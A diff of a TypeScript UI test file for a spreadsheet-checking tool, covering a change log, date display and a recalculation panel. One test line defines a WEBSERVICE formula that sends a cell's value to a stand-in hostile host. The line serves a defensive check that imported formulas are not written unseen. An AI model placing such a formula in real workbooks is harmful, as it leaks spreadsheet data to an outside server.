@@ -284,6 +284,22 @@ describe('the log of changes', () => {
     expect(port.workbook).toEqual(BOOK);
   });
 
+  it('shows dates as their cells do, before the first check too, also where days count from 1904', async () => {
+    const change = {
+      at: at('BAB III', 'B9'),
+      from: { value: '31-12-2024' },
+      to: { value: 44_195, format: 'dd/mm/yyyy' },
+      rule: 'format-angka',
+      reason: 'x',
+    };
+    const time = '2026-01-02T03:04:05.000Z';
+    const saved = { settings: {}, ignored: [], history: [{ time, changes: [change] }] } as SavedState;
+    const { user } = await open({ saved, workbook: { ...BOOK, date1904: true } });
+    await user.click(await findButton('Catatan perubahan (1)'));
+    await user.click(await findButton(/Format angka · 1 sel/));
+    expect(screen.getByText('31/12/2024 (angka)')).toBeTruthy();
+  });
+
   it('writes no formula that the workbook brought with it before the user has seen it', async () => {
     const F3 = at('BAB III', 'F3');
     const formula = 'WEBSERVICE("https://jahat.test/?"&B3)';
@@ -372,7 +388,7 @@ describe('Hitung ulang', () => {
     await user.click(await findButton('Hitung ulang…'));
     const form = await panel('Hitung ulang');
     await user.click(within(form).getByRole('radio', { name: /Rumus Excel biasa/ }));
-    expect(asked).toEqual(['t2 sakip', 't2 excel']);
+    expect(asked).toEqual(['t2 sakip', 't2 sakip', 't2 excel']);
     expect(within(form).getByText('=E3/D3*100')).toBeTruthy();
     expect(within(form).getByText('(nilai tetap)')).toBeTruthy();
     expect(
@@ -386,24 +402,59 @@ describe('Hitung ulang', () => {
     ]);
   });
 
-  it('says where nothing can be replaced, and asks for a check where the workbook has changed', async () => {
-    const { port, user, check } = await open({
-      change: (session) => ({
-        ...session,
-        planRecalculation: async (_, style) => ({
-          items: style === 'sakip' ? [] : [item('F3')],
-          skipped: [],
-        }),
-      }),
-    });
+  const shown = async (plan: Session['planRecalculation']) => {
+    const opened = await open({ change: (session) => ({ ...session, planRecalculation: plan }) });
+    await opened.check();
+    await opened.user.click(screen.getByRole('tab', { name: 'Tabel' }));
+    await opened.user.click(button(/3\.2/));
+    return opened;
+  };
+
+  it('says for which formulas nothing can be replaced, and asks for a check where the workbook has changed', async () => {
+    const { port, user } = await shown(async (_, style) => ({
+      items: style === 'excel' ? [] : [item('F3')],
+      skipped: [],
+    }));
+    await user.click(await findButton('Hitung ulang…'));
+    await user.click(screen.getByRole('radio', { name: /Rumus Excel biasa/ }));
+    expect(await screen.findByText(/Tidak ada angka ketikan/)).toBeTruthy();
+    await user.click(screen.getByRole('radio', { name: /Fungsi SAKIP/ }));
+    act(() => port.change());
+    expect(await findButton('Terapkan pada 1 sel')).toHaveProperty('disabled', true);
+  });
+
+  it('is not offered where nothing can be replaced: that is said, unless no result is typed at all', async () => {
+    const skipped = [{ at: at('BAB III', 'D3'), reason: 'Targetnya kosong.' }];
+    const plans = { t1: { items: [], skipped: [] }, t2: { items: [], skipped } };
+    const { user } = await shown(async (table) => plans[table as 't1' | 't2']);
+    expect(await screen.findByText(/Tidak ada angka ketikan/)).toBeTruthy();
+    await user.click(button(/2\.1/));
+    await act(async () => {});
+    expect(screen.getAllByText(/Tidak ada angka ketikan/)).toHaveLength(1);
+    expect(screen.queryByRole('button', { name: 'Hitung ulang…' })).toBeNull();
+  });
+
+  it('is offered no more once all is replaced, and the focus is on the table then', async () => {
+    const { user, check } = await open();
     await check();
     await user.click(screen.getByRole('tab', { name: 'Tabel' }));
     await user.click(button(/3\.2/));
     await user.click(await findButton('Hitung ulang…'));
-    expect(await screen.findByText(/Tidak ada angka ketikan/)).toBeTruthy();
-    await user.click(screen.getByRole('radio', { name: /Rumus Excel biasa/ }));
-    act(() => port.change());
-    expect(await findButton('Terapkan pada 1 sel')).toHaveProperty('disabled', true);
+    await user.click(await findButton('Terapkan pada 2 sel'));
+    expect(await screen.findByText(/2 sel sudah diubah/)).toBeTruthy();
+    await waitFor(() => expect(screen.queryByRole('button', { name: 'Hitung ulang…' })).toBeNull());
+    await waitFor(() => expect(document.activeElement).toBe(button(/3\.2/)));
+  });
+
+  it('is worked out no further once its table is closed', async () => {
+    let asked: (() => boolean) | undefined;
+    const { user } = await shown((_table, _style, isWanted) => {
+      asked = isWanted;
+      return new Promise(() => {});
+    });
+    await waitFor(() => expect(asked?.()).toBe(true));
+    await user.click(button(/3\.2/));
+    expect(asked?.()).toBe(false);
   });
 });
 
